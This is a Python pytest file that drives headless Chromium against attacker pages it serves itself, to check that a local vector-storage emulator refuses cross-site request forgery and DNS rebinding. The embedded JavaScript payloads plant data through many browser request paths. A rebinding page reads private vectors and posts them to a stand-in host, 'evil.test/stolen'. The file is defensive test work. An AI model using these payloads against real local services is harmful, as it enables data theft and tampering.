"""A real browser on this machine, with pages of somebody else, and the embedded service beside it.

The pages try whatever a page can do to have requests sent, with what anybody can sign: the keys are
published. `.test` names lead to this machine as a hostile name server would have them do; for
`rebind.test` it changes its answer once its page is there, from the page's server to the service.
"""

import contextlib
import http.server
import json
import os
import re
import shutil
import signal
import socket
import socketserver
import subprocess
import threading
import time
from datetime import UTC, datetime
from urllib.parse import urlsplit

import pytest
from support.caller import Caller
from support.presigning import presigned_query

from oss_vector_retriever.client import signing
from oss_vector_retriever.emulator import (
    DEVELOPMENT_ACCOUNT_ID,
    DEVELOPMENT_KEY,
    DEVELOPMENT_REGION,
    Server,
    Service,
)
from oss_vector_retriever.emulator.http import addressing
from oss_vector_retriever.emulator.http.admission import Admission

CHROMIUM = shutil.which("chromium")
REBOUND = "127.0.0.2"  # where the page of rebind.test comes from
PATIENCE = 60

pytestmark = [pytest.mark.timeout(180), pytest.mark.promise("P6")]

PLANT = json.dumps({"indexName": "i", "vectors": [{"key": "planted", "data": {"float32": [2]}}]})
READ = json.dumps({"indexName": "i", "keys": ["mine"], "returnMetadata": True})

# Each attempt: what it asks for, and what it is refused by. Each has a bucket of its own.
SITE, ORIGIN, HOST = "Sec-Fetch-Site", "Origin", "Host"
ATTEMPTS = {
    "fetch-no-cors": ("POST", "putVectors", SITE),
    "presigned-post": ("POST", "putVectors", SITE),
    "presigned-get": ("GET", "bucketInfo", SITE),
    "form-post": ("POST", "putVectors", SITE),
    "image": ("GET", "bucketInfo", SITE),
    "script": ("GET", "bucketInfo", SITE),
    "style": ("GET", "bucketInfo", SITE),
    "iframe": ("GET", "bucketInfo", SITE),
    "beacon": ("POST", "putVectors", SITE),
    "sandbox": ("POST", "putVectors", SITE),
    "data-page": ("POST", "putVectors", SITE),
    "websocket": ("GET", "bucketInfo", ORIGIN),
    "preflight": ("OPTIONS", "putVectors", SITE),
    "other-port": ("POST", "putVectors", SITE),
    "named-post": ("POST", "putVectors", ORIGIN),
    "named-sandbox": ("POST", "putVectors", ORIGIN),
    "rebound-read": ("POST", "getVectors", HOST),
    "rebound-write": ("POST", "putVectors", HOST),
    "navigation": ("GET", "bucketInfo", SITE),
}
PLANTING = {name for name, (method, query, _) in ATTEMPTS.items() if query == "putVectors"}

HUB = """<!doctype html><body><script>
const url = %(urls)s, plant = %(plant)s;
const post = {method: "POST", mode: "no-cors", body: plant};
const frame = (attributes) => document.body.append(
    Object.assign(document.createElement("iframe"), attributes));
const load = (tag, attributes) => document.body.append(
    Object.assign(document.createElement(tag), attributes));
const script = (name) => "<script>fetch(" + JSON.stringify(url[name]) + ", "
    + JSON.stringify(post) + ")</" + "script>";
fetch(url["fetch-no-cors"], post);
fetch(url["presigned-post"], {method: "POST", body: plant}).catch(() => {});
fetch(url["presigned-get"], {mode: "no-cors"});
fetch(url["preflight"],
    {method: "POST", body: plant, headers: {"content-type": "application/json"}}).catch(() => {});
fetch(url["named-post"], post);
load("img", {src: url["image"]});
load("script", {src: url["script"]});
load("link", {rel: "stylesheet", href: url["style"]});
navigator.sendBeacon(url["beacon"], plant);
try { new WebSocket(url["websocket"].replace("http", "ws")); } catch (error) {}
frame({src: url["iframe"]});
frame({sandbox: "allow-scripts", srcdoc: script("sandbox")});
frame({sandbox: "allow-scripts", srcdoc: script("named-sandbox")});
frame({src: "data:text/html," + encodeURIComponent(script("data-page"))});
frame({src: "http://127.0.0.1:" + location.port + "/other-port"});
frame({src: "http://rebind.test:%(port)d/page"});
frame({name: "answer"});
const form = document.createElement("form");
Object.assign(form, {method: "POST", action: url["form-post"], enctype: "text/plain",
    target: "answer"});
// a form has an equals sign between name and value: both are parts of one string of JSON
load("div", {});
form.append(Object.assign(document.createElement("input"),
    {name: plant.slice(0, -1) + ', "x": "', value: '"}'}));
document.body.append(form);
form.submit();
(async () => {
    while ((await fetch("/go")).status != 200) await new Promise((done) => setTimeout(done, 50));
    location = url["navigation"];
})();
</script>"""

OTHER_PORT = """<!doctype html><script>
fetch(%(url)s, {method: "POST", mode: "no-cors", body: %(plant)s});
</script>"""

REBOUND_PAGE = """<!doctype html><script>
(async () => {
    const url = %(urls)s;
    const read = await fetch(url["rebound-read"], {method: "POST", body: %(read)s});
    const text = await read.text();
    await fetch(url["rebound-write"], {method: "POST", body: %(plant)s, headers: %(headers)s});
    await fetch("http://evil.test:%(port)d/stolen", {method: "POST", mode: "no-cors", body: text});
})();
</script>"""


@pytest.fixture(autouse=True)
def _browser():
    """Skip where there is no browser, except where one was installed for this (.ci/run)."""
    if CHROMIUM is None:
        is_needed = "OSS_VECTORS_NEED_CHROMIUM" in os.environ
        (pytest.fail if is_needed else pytest.skip)("there is no Chromium (Debian: chromium)")


def presigned(name, base):
    """Return what anybody can sign: a URL that holds for an hour, for the bucket of an attempt."""
    method, query, _ = ATTEMPTS[name]
    resource = signing.resource_name(DEVELOPMENT_REGION, DEVELOPMENT_ACCOUNT_ID, name)
    stamp = signing.timestamp(datetime.now(UTC))
    # What a browser says of itself of text that a page hands it; a signature covers it.
    kind = "text/plain" if name == "form-post" else "text/plain;charset=UTF-8"
    headers = {} if method == "GET" else {"content-type": kind}
    signable = signing.Signable(method, resource, query, headers, ())
    text = presigned_query(
        signable,
        DEVELOPMENT_KEY.id,
        DEVELOPMENT_KEY.secret,
        stamp,
        signing.Scope(stamp[:8], DEVELOPMENT_REGION),
        expires=3600,
    )
    return f"{base}/{name}/?{text}"


class Pages(http.server.BaseHTTPRequestHandler):
    """The pages of evil.test, and what they bring home."""

    def do_GET(self):
        page = self.server.pages.get(self.path, "").encode()
        self.send_response(200 if page else 404)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def do_POST(self):
        self.server.stolen.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_):
        pass


class Rebinding(socketserver.StreamRequestHandler):
    """The address behind rebind.test: its own page at first, and then the service's port."""

    def handle(self):
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            line = self.rfile.readline()
            if not line:
                return
            head += line
        if head.startswith(b"GET /page "):
            page = self.server.page.encode()
            headers = b"Content-Type: text/html\r\nConnection: close\r\nContent-Length: "
            self.wfile.write(b"HTTP/1.1 200 OK\r\n%s%d\r\n\r\n%s" % (headers, len(page), page))
            return
        length = re.search(rb"(?i)content-length: (\d+)", head)
        body = self.rfile.read(int(length[1])) if length else b""
        with socket.create_connection(self.server.service, timeout=10) as link:
            link.sendall(head.replace(b"keep-alive", b"close") + body)
            while part := link.recv(65536):
                self.wfile.write(part)


class Listening(socketserver.ThreadingTCPServer):
    allow_reuse_address = daemon_threads = True


@contextlib.contextmanager
def answering(server):
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@contextlib.contextmanager
def browsing(folder, url):
    """Open a page in a browser of its own, which is ended afterwards."""
    rules = f"MAP rebind.test {REBOUND}, MAP *.test 127.0.0.1"
    command = [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"]
    command += [f"--user-data-dir={folder / 'profile'}", f"--host-resolver-rules={rules}"]
    # A later Chromium may ask before a page reaches the local network, and others do not: the
    # service cannot leave it to the browser. Nobody is there to be asked.
    off = "LocalNetworkAccessChecks,LocalNetworkAccessChecksWebSockets,HttpsUpgrades"
    command += [f"--disable-features={off}", "--remote-debugging-port=0", "--disable-dev-shm-usage"]
    environment = {**os.environ, "HOME": str(folder), "XDG_CONFIG_HOME": str(folder)}
    with (folder / "chromium.txt").open("w") as log:
        process = subprocess.Popen(
            [*command, url],
            stdout=log,
            stderr=log,
            stdin=subprocess.DEVNULL,
            env=environment,
            start_new_session=True,
        )
        try:
            yield
        finally:
            os.killpg(process.pid, signal.SIGKILL)  # with the processes that it started
            process.wait()


class Attack:
    """What came of the attempts."""

    def __init__(self, service):
        self.performed = {}  # by attempt, the statuses that the service answered with
        self.stolen = []
        self._respond = service.respond
        service.respond = self.respond

    def respond(self, request):
        outcome = self._respond(request)
        name = addressing.resolve(request).bucket
        if name in ATTEMPTS:  # a browser asks for the icon of a refusal that it shows
            self.performed.setdefault(name, []).append((request.method, outcome.reply.status))
        return outcome


def attack(tmp_path, seen):
    """Have a browser make every attempt; return the attack and the service's planted keys.

    `seen(attack)` returns the attempts that have arrived.
    """
    with contextlib.ExitStack() as stack:
        service = stack.enter_context(Service.in_memory())
        for name in ATTEMPTS:
            service.create_bucket(DEVELOPMENT_ACCOUNT_ID, name)
            caller = Caller(service, bucket=name)
            caller.make_index("i", 1)
            caller.put(("mine", [1], {"t": "private"}), index="i")
        found = Attack(service)
        server = stack.enter_context(Server(service, allow_hosts=["named.test"]))
        port = urlsplit(server.endpoint).port
        pages = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Pages)
        pages.stolen = found.stolen
        stack.enter_context(answering(pages))
        rebinding = Listening((REBOUND, port), Rebinding)
        rebinding.service = ("127.0.0.1", port)
        stack.enter_context(answering(rebinding))

        bases = {"named": f"http://named.test:{port}", "rebound": ""}
        urls = {n: presigned(n, bases.get(n.split("-")[0], server.endpoint)) for n in ATTEMPTS}
        signed = Caller(service, bucket="rebound-write").sign("POST", "putVectors")
        urls["rebound-write"] = signed.target
        plant = json.dumps(PLANT)
        pages.pages = {
            "/": HUB % {"urls": json.dumps(urls), "plant": plant, "port": port},
            "/other-port": OTHER_PORT % {"url": json.dumps(urls["other-port"]), "plant": plant},
        }
        rebinding.page = REBOUND_PAGE % {
            "urls": json.dumps(urls),
            "read": json.dumps(READ),
            "plant": plant,
            "headers": json.dumps(dict(signed.headers)),
            "port": pages.server_port,
        }
        with browsing(tmp_path, f"http://evil.test:{pages.server_port}/"):
            until = time.monotonic() + PATIENCE
            while not (ATTEMPTS.keys() <= seen(found).keys() and found.stolen):
                missing = ATTEMPTS.keys() - seen(found).keys()
                assert time.monotonic() < until, f"did not arrive: {sorted(missing)}"
                if missing == {"navigation"}:  # it ends the page
                    pages.pages["/go"] = "now"
                time.sleep(0.05)
            time.sleep(0.5)  # for what may come of it
        planted = {
            name
            for name in ATTEMPTS
            if Caller(service, bucket=name).get(["planted"], index="i", data=False)
        }
        return found, planted


def refusals(messages):
    """Return what was logged of each attempt: the method, and the header that it was refused by."""
    line = r"refused (\w+) '/([a-z-]+)/' from 127\.0\.0\.1: its ([\w-]+) is '(.*?)'"
    found = [re.match(line, message) for message in messages]
    return {match[2]: (match[1], match[3], match[4]) for match in found if match}


def test_what_pages_have_a_browser_send_arrives_and_is_refused(tmp_path, caplog):
    found, planted = attack(tmp_path, lambda _: refusals(caplog.messages))
    # Nothing reached the service: neither a vector nor a reply.
    assert found.performed == {}
    assert planted == set()
    assert [json.loads(text)["Error"]["Code"] for text in found.stolen] == ["AccessDenied"]
    logged = refusals(caplog.messages)
    assert {n: (method, by) for n, (method, by, _) in logged.items()} == {
        name: (method, by) for name, (method, _, by) in ATTEMPTS.items()
    }
    assert logged["other-port"][2] == "same-site"
    assert logged["image"][2] == "cross-site"
    assert logged["named-sandbox"][2] == "null"
    assert logged["rebound-read"][2].startswith("rebind.test:")


def test_the_same_attempts_succeed_where_nobody_looks_at_them(tmp_path, monkeypatch):
    """The test above would else be one that cannot fail."""
    monkeypatch.setattr(Admission, "reason_to_refuse", lambda *_: None)
    found, planted = attack(tmp_path, lambda attack: attack.performed)
    # A browser asks first where a page wants to say application/json: for OPTIONS nobody signed.
    assert found.performed.pop("preflight") == [("OPTIONS", 403)]
    assert found.performed == {
        name: [(method, 200)] for name, (method, _, _) in ATTEMPTS.items() if name != "preflight"
    }
    assert planted == PLANTING - {"preflight"}
    (stolen,) = found.stolen
    assert json.loads(stolen)["vectors"][0]["metadata"] == {"t": "private"}
